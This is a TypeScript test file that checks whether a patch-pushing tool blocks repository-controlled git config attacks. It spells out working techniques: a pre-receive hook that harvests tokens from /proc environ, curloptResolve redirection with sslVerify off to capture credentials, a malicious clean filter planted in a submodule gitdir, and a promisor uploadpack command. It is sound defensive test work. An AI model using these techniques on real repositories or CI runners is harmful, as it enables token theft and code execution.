/**
 * Attacks on "Patchsmith's own git never runs a program the repository controls" (issue 24,
 * points 4-5) that got through the seal. Each test fails on the code it was written against and
 * passes once the hole is closed (by refusing the run or by neutralising the key: either way
 * nothing runs and nothing leaves).
 */
import { execFileSync } from 'node:child_process'
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { ChangeBranch } from '../../src/change/index.js'
import { Git } from '../../src/git/index.js'
import { pushAuth } from '../../src/git/push-auth.js'
import { cleanupAfterEach } from '../support/cleanups.js'
import { createRepo, type TestRepo } from '../support/repo.js'
import { hostileRun } from './hostile-run.js'

const cleanups = cleanupAfterEach()
const BRANCH = 'fix/3-greeting'
const TOKEN = 'ghs_SEALattackCANARY0123456789abcdef'
const PATCH =
  'diff --git a/src/greet.txt b/src/greet.txt\n--- a/src/greet.txt\n+++ b/src/greet.txt\n@@ -1 +1 @@\n-hello\n+hello, world\n'

function repoWithIncludedConfig(gitconfig: (repo: TestRepo) => string): TestRepo {
  const repo = createRepo({ files: { 'src/greet.txt': 'hello\n' }, prefix: 'seal-attack' })
  cleanups.push(() => repo.cleanup())
  repo.write('.gitconfig', gitconfig(repo))
  repo.commitAll('tracked .gitconfig')
  repo.git('config', 'include.path', '../.gitconfig')
  return repo
}

/** prepare, create, apply, commit, push: what a run does; a refusal anywhere is fine. */
async function changeAndPush(repo: TestRepo, serverUrl?: string): Promise<unknown> {
  try {
    const git = await Git.open(repo.dir)
    const branch = await ChangeBranch.prepare(git, {
      branch: BRANCH,
      plannedPaths: ['src/greet.txt'],
      auth: pushAuth(TOKEN, serverUrl)
    })
    await branch.create()
    await branch.apply(PATCH, ['src/greet.txt'])
    const files = [{ path: 'src/greet.txt', content: 'hello, world\n' }]
    await branch.commit(
      [{ message: 'fix: greet', patch: PATCH, paths: ['src/greet.txt'], files }],
      {
        signoff: false
      }
    )
    await branch.pushBranch()
    return undefined
  } catch (error) {
    return error
  }
}

describe('push redirection through the included config', () => {
  it('a second remote.origin.url in an included file: the push goes nowhere else and runs no hook', async () => {
    let evil = ''
    const repo = repoWithIncludedConfig((repo) => {
      evil = join(repo.root, 'evil.git')
      execFileSync('git', ['init', '--quiet', '--bare', evil])
      const hook = join(evil, 'hooks', 'pre-receive')
      // Runs as the runner, outside any jail, beside `git push` whose environment holds the token.
      writeFileSync(
        hook,
        `#!/bin/sh\np=$$\nwhile [ "$p" -gt 1 ]; do tr '\\0' '\\n' < /proc/$p/environ >> '${repo.root}/marker' 2>/dev/null; p=$(cut -d' ' -f4 /proc/$p/stat); done\n`
      )
      chmodSync(hook, 0o755)
      return `[remote "origin"]\n\turl = ${evil}\n`
    })
    await changeAndPush(repo)
    const marker = join(repo.root, 'marker')
    const leaked = existsSync(marker) ? readFileSync(marker, 'utf8') : ''
    expect(leaked.includes(Buffer.from(`x-access-token:${TOKEN}`).toString('base64'))).toBe(false)
    expect(existsSync(marker)).toBe(false)
    expect(execFileSync('git', ['-C', evil, 'for-each-ref']).toString()).toBe('')
  })

  it('http.curloptResolve (with sslVerify off) in an included file: the token never reaches another host', async () => {
    const seen: string[] = []
    const server = createServer((request, response) => {
      seen.push(String(request.headers.authorization ?? ''))
      response.statusCode = 404
      response.end()
    })
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
    cleanups.push(() => server.close())
    const port = (server.address() as AddressInfo).port
    // The workflow's remote and server are a name that resolves nowhere; only the repository's
    // config sends it to the attacker's address (github.com:443 and sslVerify=false in real life).
    const host = `github.invalid:${port}`
    const repo = repoWithIncludedConfig(
      () => `[http]\n\tcurloptResolve = ${host}:127.0.0.1\n\tsslVerify = false\n`
    )
    repo.git('remote', 'set-url', 'origin', `http://${host}/owner/repo.git`)
    await changeAndPush(repo, `http://${host}`)
    expect(seen.filter((header) => header.length > 0)).toEqual([])
  })
})

describe('submodules: a gitdir the work tree holds is config nobody sealed', () => {
  // Only a process whose ancestors include Patchsmith's git (its command line always carries
  // core.quotePath=false) leaves the marker: the harness's own git status does not count.
  const PROBE = (root: string) =>
    '#!/bin/sh\np=$PPID\nwhile [ "$p" -gt 1 ]; do\n' +
    `  if tr '\\0' ' ' < /proc/$p/cmdline | grep -q core.quotePath=false; then echo "ran as $(id -u)" >> '${root}/marker'; break; fi\n` +
    "  p=$(cut -d' ' -f4 /proc/$p/stat)\ndone\ncat\n"

  it("validation that makes an uninitialised submodule's .git runs nothing in Patchsmith's git status", async () => {
    const hostile = await hostileRun({
      setup: (repo) => {
        writeFileSync(join(repo.root, 'evil.sh'), PROBE(repo.root))
        chmodSync(join(repo.root, 'evil.sh'), 0o755)
        // A repository with a submodule that actions/checkout left uninitialised (the default).
        repo.write('.gitmodules', '[submodule "lib"]\n\tpath = vendor/lib\n\turl = ./lib.git\n')
        repo.git('add', '.gitmodules')
        const sha = '1'.repeat(40)
        repo.git('update-index', '--add', '--cacheinfo', `160000,${sha},vendor/lib`)
        repo.git('commit', '--quiet', '-m', 'submodule')
        mkdirSync(join(repo.dir, 'vendor/lib'), { recursive: true })
      },
      inputs: {
        // Sandboxed code writes only the work tree: vendor/lib/.git is part of it.
        'validation-commands': [
          'mkdir -p vendor/lib && cd vendor/lib && git init -q && echo data > f && git add f',
          'git -c user.name=a -c user.email=a@b commit -qm s',
          `git config filter.x.clean "$(cd ../../.. && pwd)/evil.sh"`,
          "echo '* filter=x' > .git/info/attributes && touch -d 2001-01-01 f"
        ].join(' && ')
      }
    })
    expect(existsSync(join(hostile.repo.root, 'marker'))).toBe(false)
  })
})

describe('a local command that fetches', () => {
  it('a promisor remote in an included file is refused before any git command, so `git log` cannot lazily fetch through its uploadpack', async () => {
    let marker = ''
    const repo = repoWithIncludedConfig((repo) => {
      marker = join(repo.root, 'uploadpack-ran')
      return [
        '[remote "cache"]',
        `\turl = ${repo.dir}`,
        '\tpromisor = true',
        `\tuploadpack = "sh -c 'id > ${marker}' #"`,
        '[mailmap]',
        `\tblob = ${'1'.repeat(40)}`,
        ''
      ].join('\n')
    })
    const git = await Git.open(repo.dir)
    const error = await git.exec(['log', '-1', '--format=%an']).catch((e: unknown) => e)
    expect(error).toMatchObject({ details: { rule: 'unsafe-git-config' } })
    expect(existsSync(marker)).toBe(false)
    // A run that stashes the user's work (git log --walk-reflogs) gets no further.
    repo.write('notes.txt', 'mine\n')
    expect(await changeAndPush(repo)).toMatchObject({ details: { rule: 'unsafe-git-config' } })
    expect(existsSync(marker)).toBe(false)
  })
})
